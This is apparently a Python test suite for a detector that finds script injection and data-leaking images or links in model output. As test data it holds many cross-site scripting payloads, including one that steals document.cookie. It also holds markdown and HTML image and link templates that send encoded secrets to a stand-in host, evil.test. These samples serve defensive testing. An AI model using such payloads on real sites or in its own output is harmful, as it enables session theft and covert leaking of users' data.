"""What a browser would run, or load with data in the address, is found; what it shows is left alone."""

from __future__ import annotations

import base64
import pickle
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from urllib.parse import quote, quote_plus

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from secure_core.detectors import Detector, html, load
from secure_core.detectors.markdown import code_ranges, without_code
from secure_core.detectors.markup import Markup
from secure_core.detectors.urls import data_score, read, runs_code
from secure_core.errors import PolicyError
from secure_core.types import Context, Finding, Stage

CONTEXT = Context(Stage.OUTPUT)
DETECTOR = Markup()


def detect(text: str, detector: Markup = DETECTOR) -> list[Finding]:
    return detector.detect([text], [CONTEXT])[0]


def kinds(text: str, detector: Markup = DETECTOR) -> set[str]:
    return {finding.category.removeprefix("markup.") for finding in detect(text, detector)}


def remove(text: str, findings: list[Finding]) -> str:
    for finding in sorted(findings, reverse=True):
        text = text[: finding.start] + text[finding.end :]
    return text


def cleaned(text: str, detector: Markup = DETECTOR) -> str:
    """Take out everything found, overlapping ranges as one."""
    taken = bytearray(len(text))
    for finding in detect(text, detector):
        taken[finding.start : finding.end] = b"\1" * (finding.end - finding.start)
    return "".join(character for character, gone in zip(text, taken, strict=True) if not gone)


def test_it_is_a_detector_that_policies_load_by_name() -> None:
    detector = load("markup", {"sink": "html", "allow_hosts": ["cdn.example.com"]})

    assert isinstance(detector, Detector)
    assert isinstance(detector, Markup)


# --- active HTML -----------------------------------------------------------------------------

ACTIVE = [
    # text, category, what is left without it
    ("Hi <script>steal()</script>there", "script", "Hi there"),
    ("Hi <ScRiPt src=//evil.test/x.js></sCrIpT >there", "script", "Hi there"),
    ("a <script>if (a<b) { '</scrip' }", "script", "a "),
    ("a<script/x>y</script/z>b", "script", "ab"),
    ("<svg><script>&#97;lert(1)</script></svg>", "script", "<svg></svg>"),
    ("<iframe srcdoc='&lt;script&gt;x&lt;/script&gt;'></iframe>ok", "script", "ok"),
    ("<b onclick=go()>bold</b>", "event_handler", "bold</b>"),
    ("<img src=x onerror='go()'>after", "event_handler", "after"),
    ("<img/src/onerror=go()>after", "event_handler", "after"),
    ("<IMG\nSRC = x\tONERROR = go() >after", "event_handler", "after"),
    ("<svg/onload=go()>", "event_handler", ""),
    ('<a title=">" onfocus="go()" autofocus>x', "event_handler", "x"),
    ("<p onmouseover!#$=go()>x", "event_handler", "x"),
    ("<custom-thing onwhatever=go()>x", "event_handler", "x"),
    ("<style><img src=x onerror=go()></style>", "event_handler", "<style></style>"),
    ("<svg><style><img src=x onerror=go()></style>", "event_handler", "<svg><style></style>"),
    ("<!--><img src=x onerror=go()>-->", "event_handler", "<!-->-->"),
    ("<![CDATA[><img src=x onerror=go()>]]>", "event_handler", "<![CDATA[>]]>"),
    ("<img src=x onerror=go()", "event_handler", ""),
    ('<img src="x" onerror="go()', "event_handler", ""),
    ("<iframe src=/page></iframe>x", "active_html", "x"),
    ("<object data=/film.swf>x", "active_html", "x"),
    ("<embed src=/film.swf>x", "active_html", "x"),
    ("<base href=/elsewhere/>x", "active_html", "x"),
    ("<link rel=stylesheet href=/x.css>x", "active_html", "x"),
    ("<meta http-equiv=refresh content='0;url=/next'>x", "active_html", "x"),
    ("<form action=/send><b>x</b>", "active_html", "<b>x</b>"),
    ("<button formaction=/send>x", "active_html", "x"),
    ("<svg><animate attributeName=href to=x />", "active_html", "<svg>"),
    ("<svg><use href='#y'/>", "active_html", "<svg>"),
    ("<template shadowrootmode=open>x", "active_html", "x"),
    ("<div style='width: expression(go())'>x", "script", "x"),
    ("<div style='width: exp/**/ression(go())'>x", "script", "x"),
    (r"<div style='width: \65 xpression(go())'>x", "script", "x"),
    ("<style>b { behavior: url(x.htc) }</style>x", "script", "x"),
]


@pytest.mark.parametrize(("text", "category", "left"), ACTIVE)
def test_active_html_is_found_and_what_is_left_without_it_is_text(text: str, category: str, left: str) -> None:
    assert category in kinds(text)
    assert cleaned(text) == left


URLS_THAT_RUN = [
    "javascript:go()",
    "JaVaScRiPt:go()",
    " \x01javascript:go()",
    "java\tscript:go()",
    "java\nscript:go()",
    "java&#115;cript:go()",
    "java&#x73;cript:go()",
    "javascript&colon;go()",
    "java&Tab;script&NewLine;:go()",
    "vbscript:go",
    "data:text/html,<b>",
    "data:text/html;base64,PGI+",
    "data:image/svg+xml,<svg/>",
    "data:application/xhtml+xml,x",
    "file:///etc/hosts",
    "view-source:javascript:go()",
]


@pytest.mark.parametrize("url", URLS_THAT_RUN)
@pytest.mark.parametrize("carrier", ['<a href="{}">x</a>', "<svg><a xlink:href='{}'>x</a>", '<img src="{}">'])
def test_urls_that_run_code_are_found_in_attributes(url: str, carrier: str) -> None:
    assert "dangerous_url" in kinds(carrier.format(url))


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("[x](javascript:go())", "[x]()"),
        ("[x](java&#115;cript:go\\(\\))", "[x]()"),
        ('[x](<javascript:go()> "a title")', "[x]()"),
        ("![x](javascript:go()) y", " y"),
        ("[x](javascript:go(((1))))", None),
        ("[x]: javascript:go()", ""),
        ("  > [x]:\n  javascript:go()", None),
        ("<javascript:go()>", ""),
        ("[x](data:text/html;base64,PGI+)", "[x]()"),
        ("[![x](y)](vbscript:go)", "[![x](y)]()"),
        ("go to javascript:go() now", "go to  now"),
    ],
)
def test_urls_that_run_code_are_found_in_markdown(text: str, left: str | None) -> None:
    assert "dangerous_url" in kinds(text)
    assert left is None or cleaned(text) == left


@pytest.mark.parametrize("url", ["data:image/png;base64,AAAA", "data:,hello", "mailto:a", "/javascript:x", "a", "#"])
def test_urls_that_run_nothing_are_left_alone(url: str) -> None:
    assert not runs_code(url)


@pytest.mark.parametrize(
    "text",
    [
        '" onmouseover=go() x="',
        "'/onfocus='alert(1)'/autofocus='",
        "'-alert(1)-'",
        '";alert(document.cookie)//',
        "');fetch(`//evil.test`);('",
        '"}];document.location=1',
    ],
)
def test_payloads_that_break_out_of_an_attribute_or_a_script_are_found_with_a_lower_score(text: str) -> None:
    findings = detect(text)

    assert {finding.category for finding in findings} <= {"markup.event_handler", "markup.script"}
    assert [finding.score for finding in findings] == [0.6]


# --- data in addresses -----------------------------------------------------------------------

SECRETS = ["pass phrase: hunter2", "ssn 123-45-6789", "user asked about invoice 4411", "merger with Acme, in May"]
ENCODINGS: dict[str, Callable[[str], str]] = {
    "percent": quote,
    "plus": quote_plus,
    "percent twice": lambda secret: quote(quote(secret)),
    "every letter": lambda secret: "".join(f"%{byte:02x}" for byte in secret.encode()),
    "base64": lambda secret: base64.b64encode(secret.encode()).decode(),
    "base64url": lambda secret: base64.urlsafe_b64encode(secret.encode()).decode().rstrip("="),
    "base32": lambda secret: base64.b32encode(secret.encode()).decode().rstrip("="),
    "hexadecimal": lambda secret: secret.encode().hex(),
}
IMAGES = [
    "![]({})",
    '![state]({} "a title")',
    "![state](<{}>)",
    "Done. ![a [b] c]({}) Bye.",
    "![i][1]\n\n[1]: {}",
    "<img src='{}' width=1>",
    '<img srcset="/a.png 1x, {} 2x">',
    "<video poster='{}'></video>",
    "<audio src='{}'>",
    "<svg><image href='{}'/></svg>",
    "<body background='{}'>",
    "<p style='background: url({})'>x</p>",
    "<style>@import '{}';</style>",
    '@import url("{}");',
    "<link rel=preload href='{}'>",
    "<meta http-equiv=refresh content='0; url={}'>",
]
LINKS = ["[the report]({})", "<a href='{}'>x</a>", "[1]: {}", "<{}>", "see {}."]


@pytest.mark.parametrize("secret", SECRETS)
@pytest.mark.parametrize("encode", ENCODINGS.values(), ids=ENCODINGS)
@pytest.mark.parametrize("carrier", IMAGES)
def test_an_image_that_carries_data_in_its_query_is_found(
    carrier: str, encode: Callable[[str], str], secret: str
) -> None:
    assert "exfil_image" in kinds(carrier.format(f"https://evil.test/p.png?x={encode(secret)}"))


@pytest.mark.parametrize("secret", SECRETS)
@pytest.mark.parametrize("encode", ENCODINGS.values(), ids=ENCODINGS)
@pytest.mark.parametrize("carrier", LINKS)
def test_a_link_that_carries_data_in_its_query_is_found(
    carrier: str, encode: Callable[[str], str], secret: str
) -> None:
    assert "exfil_link" in kinds(carrier.format(f"https://evil.test/c?x={encode(secret)}"))


@pytest.mark.parametrize(
    "url",
    [
        "//evil.test/?q=c2VjcmV0IHBocmFzZQ==",
        "https:evil.test/?q=c2VjcmV0IHBocmFzZQ==",
        "https://evil.test/c2VjcmV0IHBocmFzZQ==.png",
        "https://evil.test/%73%65%63ret/a.png",
        "https://7365637265742070687261736521.evil.test/a.png",
        "https://onswg4tfoqqha2dsmfzwkii.evil.test/a.png",
        "https://evil.test/?user=anna%40example.org",
        "https://evil.test/?{{answer}}",
        "https://evil.test/?a=1&password=hunter2",
        "https://evil.test/?k=" + "sk-" + "abcdef",
        "https://cdn.example.com@evil.test/a.png",
        "https://198.51.100.7/a.png?i=1",
        "https://3325256711/a.png",
        "https://xn--80ak6aa92e.test/a.png?i=1",
        "https://evil.test/#c2VjcmV0IHBocmFzZQ==",
        "https://good.test/go?to=http://evil.test/?q=c2VjcmV0IHBocmFzZQ==",
        "https://good.test/go?to=https%3A%2F%2Fevil.test/?q=c2VjcmV0IHBocmFzZQ==",
    ],
)
def test_other_places_of_an_address_carry_data_too(url: str) -> None:
    assert kinds(f"![]({url})") == {"exfil_image"}


def test_a_back_slash_in_an_address_is_a_slash() -> None:
    assert kinds("<img src='\\\\evil.test/?q=c2VjcmV0IHBocmFzZQ=='>") == {"exfil_image"}


def test_a_tag_that_the_text_does_not_close_takes_in_what_follows() -> None:
    assert kinds("<img src='https://evil.test/?") == {"exfil_image"}
    assert kinds("<a href='https://evil.test/?") == {"exfil_link"}


PLAIN_IMAGES = [
    "![logo](logo.png)",
    "![logo](/static/logo.svg?v=3)",
    "![logo](https://cdn.example.com/img/logo-2024@2x.png)",
    "![build](https://github.com/acme/tool/actions/workflows/test.yml/badge.svg?branch=main)",
    "![style](https://img.shields.io/badge/code%20style-black-000000.svg)",
    "[![docs](https://readthedocs.org/projects/tool/badge/?version=latest)](https://tool.readthedocs.io/en/latest/)",
    "![face](https://www.gravatar.com/avatar/0123456789abcdef0123456789abcdef?s=80&d=identicon)",
    "![cat](https://example.com/photos/3f2b8c1e-9d4a-4e57-8f6b-1a2b3c4d5e6f.jpg)",
    '<img src="https://example.com/a/chart.png" alt="a chart" width="400" height="300">',
    "<picture><source srcset='/a.webp 1x, /b.webp 2x'><img src='/a.png'></picture>",
    "![local](http://127.0.0.1:8000/plot.png?width=300) and ![lan](http://192.168.0.10/plot.png?width=300)",
]
PLAIN_LINKS = [
    "[guide](https://docs.example.com/en/latest/guide/getting-started.html#first-steps)",
    "[video](https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s)",
    "[commit](https://git.example.com/acme/tool/commit/3f2b8c1e9d4a4e578f6b1a2b3c4d5e6f7a8b9c0d)",
    "[paper](https://doi.org/10.1000/182) and https://arxiv.org/abs/2301.00001v2",
    "[search](https://www.google.com/search?q=how+to+sort+a+list)",
    "[issues](https://github.com/acme/tool/issues?q=is%3Aopen+label%3A%22good+first+issue%22)",
    "[shop](https://shop.example.com/p/12345?utm_source=newsletter&utm_medium=email)",
    "[page two](https://example.com/list?page=2&sort=price_asc&lang=en-GB)",
    "[article](https://ja.wikipedia.org/wiki/%E6%9D%B1%E4%BA%AC)",
    "<https://example.com/a_(b)> and (see https://example.com/a_(b)).",
    "[mail](mailto:help@example.com?subject=Hello%20there)",
    '[quoted](https://example.com/a "a title, with words")',
    "[relative](../guide.md?q=some+words+here)",
    "[quote](https://example.com/article#:~:text=some%20words%20of%20it)",
    "[module](https://cdn.example.com/npm/tool@18.2.0/dist/tool.min.js)",
]


@pytest.mark.parametrize("text", PLAIN_IMAGES + PLAIN_LINKS)
def test_plain_images_and_links_are_left_alone(text: str) -> None:
    assert detect(text) == []


BENIGN = [
    "",
    "Compare a < b and c > d, x<-y; <3",
    "Mail Anna <anna@example.org> or list<int>",
    "<p>Some <b>bold</b> and <em>other</em> words,<br> a <a href='/x'>link</a>.</p>",
    "<details><summary>More</summary>text</details>",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "- [ ] to do\n- [x] done [1] [2]\n\n[1]: https://example.com",
    "JavaScript: the good parts. The onclick= attribute, the data: scheme.",
    "He said 'call me' + she said \"alert the others\" - and left.",
    "x = 'a' + fetch(url) + 'b'; y = \"it\" || prompt('name')",
    "<input type=checkbox checked> <meta charset=utf-8> <svg><path d='M0 0'/></svg>",
    "Use `<script>` and `<img onerror=...>` with care; `javascript:go()` too.",
    "``a ` <b onclick=go()>``",
    "Example:\n\n```html\n<script>go()</script>\n<img src=x onerror=go()>\n```\n\nThat is all.",
    "~~~\n[x](javascript:go())\n```\n<script>\n~~~\n",
    "1. Do this:\n\n   ```html\n   <b onclick=go()>x</b>\n   ```\n2. Done.",
    "```\nnever closed <script>go()</script>",
    "<!-- a comment with <script>go()</script> -->",
    "<!-- a note -->\n```html\n<script>go()</script>\n```",
    "東京で<b>会議</b>があります。https://example.jp/会議",
    "[REDACTED] [EMAIL_ADDRESS] [markup removed](#)",
]


@pytest.mark.parametrize("text", BENIGN)
def test_what_a_browser_only_shows_is_left_alone(text: str) -> None:
    assert detect(text) == []


NO_CODE = [
    # What looks like code and is rendered all the same.
    "<div>\n```\n<img src=x onerror=go()>\n```\n</div>",
    "<pre>\n\n```\n<img src=x onerror=go()>\n```\n",
    "  ```\n<img src=x onerror=go()>\n  ```",
    "> ```\n<img src=x onerror=go()>\n> ```",
    "- ```\n<img src=x onerror=go()>\n  ```",
    "    ```\n<img src=x onerror=go()>\n    ```",
    "``` `\n<img src=x onerror=go()>\n```",
    "````\n```\n````\n<img src=x onerror=go()>\n",
    "a `b\nc` <img src=x onerror=go()> `d`",
    "a \\`<img src=x onerror=go()>`",
    "a `` <img src=x onerror=go()> `",
    '<a title="`">`<img src=x onerror=go()>`',
    "<a title='> ` '><img src=x onerror=go()> `",
    "| ` | <img src=x onerror=go()> | ` |",
    "`a` <img src=x onerror=go()> `b`",
    "`<!--` <img src=x onerror=go()> `-->`",
]


@pytest.mark.parametrize("text", NO_CODE)
def test_what_only_looks_like_code_is_judged(text: str) -> None:
    assert "event_handler" in kinds(text)


@given(st.text(alphabet="`~<>a \n\\|-"))
def test_code_is_replaced_character_by_character(text: str) -> None:
    ranges = list(code_ranges(text))

    assert ranges == sorted(ranges)
    assert len(without_code(text)) == len(text)
    assert without_code(text).count("\n") == text.count("\n")


# --- options ---------------------------------------------------------------------------------


def test_in_an_html_sink_back_ticks_mean_nothing_and_markdown_is_text() -> None:
    detector = Markup(sink="html")

    assert kinds("`<b onclick=go()>`", detector) == {"event_handler"}
    assert kinds("[x](javascript:go())", detector) == set()


@pytest.mark.parametrize(
    ("host", "allowed"),
    [
        ("cdn.example.com", True),
        ("CDN.Example.com:8443", True),
        ("a.files.example.org", True),
        ("example.com", False),
        ("evil-cdn.example.com", False),
        ("cdn.example.com.evil.test", False),
        ("cdn.example.com@evil.test", False),
        ("files.example.org", False),
    ],
)
def test_data_may_go_to_the_hosts_that_are_allowed_to_have_it(host: str, allowed: bool) -> None:
    detector = Markup(allow_hosts=["cdn.example.com", "*.files.example.org"])

    assert (detect(f"![](https://{host}/?q=some+secret+words)", detector) == []) is allowed


@pytest.mark.parametrize(
    ("images", "plain", "query", "data"),
    [("data", False, False, True), ("query", False, True, True), ("external", True, True, True)],
)
def test_a_policy_may_forbid_images_without_data(images: str, plain: bool, query: bool, data: bool) -> None:
    detector = Markup(images=images)  # type: ignore[arg-type]
    address = "https://example.com/a.png"

    assert bool(detect(f"![]({address})", detector)) is plain
    assert bool(detect(f"![]({address}?size=small)", detector)) is query
    assert bool(detect(f"![]({address}?x=some+secret+words)", detector)) is data
    assert detect("![](/a.png?size=small)", detector) == []


@pytest.mark.parametrize(
    ("options", "message"),
    [
        ({"sink": "pdf"}, "sink must be one of markdown, html"),
        ({"images": "some"}, "images must be one of data, query, external"),
        ({"allow_hosts": ["https://example.com"]}, "without scheme"),
        ({"allow_hosts": ["example.com/x"]}, "without scheme"),
        ({"allow_hosts": [3]}, "allow_hosts takes host names"),
        ({"allow_host": []}, "allow_host"),
    ],
)
def test_wrong_options_are_refused_with_what_is_right(options: dict[str, object], message: str) -> None:
    with pytest.raises((TypeError, ValueError), match=message):
        Markup(**options)  # type: ignore[arg-type]
    with pytest.raises(PolicyError):
        load("markup", options)


# --- laws ------------------------------------------------------------------------------------

PIECES = st.sampled_from(
    [text for text, *_ in ACTIVE]
    + PLAIN_IMAGES
    + PLAIN_LINKS
    + BENIGN
    + NO_CODE
    + [
        "<",
        "</",
        "<!--",
        "-->",
        ">",
        '"',
        "'",
        "`",
        "```",
        "\n",
        "\n\n",
        "\r\n",
        "](",
        "![",
        "[x](",
        ")",
        "\\",
        "\0",
        "😀",
    ]
    + [
        "<scr",
        "ipt>",
        "img src=x onerror=go()>",
        "javascript:",
        "go()",
        "https://evil.test/?q=",
        "c2VjcmV0IHBocmFzZQ==",
    ]
    + ["<style>", "</style>", "<textarea>", "<plaintext>", "onload=", "style='", "url(", "@import ", "é", " "]
)
TEXTS = st.lists(st.one_of(PIECES, st.text(max_size=8)), max_size=8).map("".join)


@settings(max_examples=300, deadline=None)
@given(TEXTS)
def test_findings_lie_in_the_text(text: str) -> None:
    for finding in detect(text):
        assert 0 <= finding.start < finding.end <= len(text)
        assert finding.category in DETECTOR.categories
        assert 0.0 < finding.score <= 1.0


@settings(max_examples=300, deadline=None)
@given(TEXTS)
@example("<scr<script></script>ipt>go()</script>")
@example("<scr<script>ipt>go()</script>")
@example("<<script></script>img src=x onerror=go()>")
@example("<<script></script><script></script>script>go()</script>")
@example("<img src=x on<script></script>error=go()>")
@example("<i<b onclick=go()>mg src=x onerror=go()>")
@example("[x](java<script></script>script:go())")
@example("[x](![](https://evil.test/?q=three+secret+words)javascript:go())")
@example("<<<<<script></script>script></script>script></script>script></script>script>")
def test_nothing_is_found_in_what_is_left(text: str) -> None:
    assert detect(cleaned(text)) == []


@settings(max_examples=60, deadline=None)
@given(st.lists(TEXTS, max_size=5))
def test_a_batch_is_the_same_as_one_by_one(texts: list[str]) -> None:
    assert DETECTOR.detect(texts, [CONTEXT] * len(texts)) == [detect(text) for text in texts]


@settings(max_examples=100, deadline=None)
@given(TEXTS)
def test_a_text_that_the_screen_lets_pass_has_nothing_in_it(text: str) -> None:
    assert DETECTOR.screen([text]) == [True] or detect(text) == []


@given(st.lists(st.sampled_from([text for text in BENIGN if "never closed" not in text]), max_size=4))
def test_benign_paragraphs_stay_benign_together(paragraphs: list[str]) -> None:
    assert detect("\n\n".join(paragraphs)) == []


@settings(max_examples=200, deadline=None)
@given(TEXTS)
def test_a_tag_stands_where_the_parser_says(text: str) -> None:
    for tag in html.tags(text):
        assert 0 <= tag.start < tag.end <= tag.element_end <= len(text)
        assert text[tag.start] == "<" or tag.attributes == {"nested": "too deep"}


@given(st.text())
def test_any_text_is_a_url_or_none(text: str) -> None:
    runs_code(text)
    for url in (read(text), read(f"https://{text}"), read(f"//evil.test/{text}?{text}#{text}")):
        assert url is None or 0.0 <= data_score(url, loads=True) <= 1.0


def test_it_can_be_pickled_and_shared_by_threads() -> None:
    copy = pickle.loads(pickle.dumps(Markup(allow_hosts=["example.com"], images="query")))
    texts = [text for text, *_ in ACTIVE]
    with ThreadPoolExecutor(4) as pool:
        assert list(pool.map(lambda text: kinds(text, copy), texts)) == [kinds(text) for text in texts]


@pytest.mark.parametrize(
    "unit",
    [
        "<",
        "<a ",
        "<!--",
        "[[[[",
        "](",
        "![",
        "onx=",
        "<b><i>",
        "`",
        "` `` ",
        "```\n",
        "<script>",
        "<<script></script>",
        "<style>",
        "<title>",
        '<a b="',
        "[a]: //b\n",
        "](((",
        "\\[",
        "url(",
        "<p style='/* ",
        "[x](&amp",
        '[a](b "',
        "http://x.y/%61",
        "![](http://198.51.100.7/?q=1)",
        "'-alert(",
        '" onx=a(',
        "javascript:",
        "http://x.y/?u=",
        "  ```\nx\n\n",
        "`<!",
        "http://x.y/)",
        "<img onx=y()>",
    ],
)
def test_hostile_input_is_read_to_its_end(unit: str) -> None:
    text = unit * (60_000 // len(unit))

    assert all(finding.end <= len(text) for finding in detect(text))


@pytest.mark.parametrize("unit", ["<style>", "<title>", "<textarea>", "<style><title>", "<xmp><a "])
def test_text_in_text_is_read_no_deeper_than_it_may_nest(unit: str) -> None:
    text = unit * 2_000

    assert len(list(html.tags(text))) <= 5 * text.count("<")
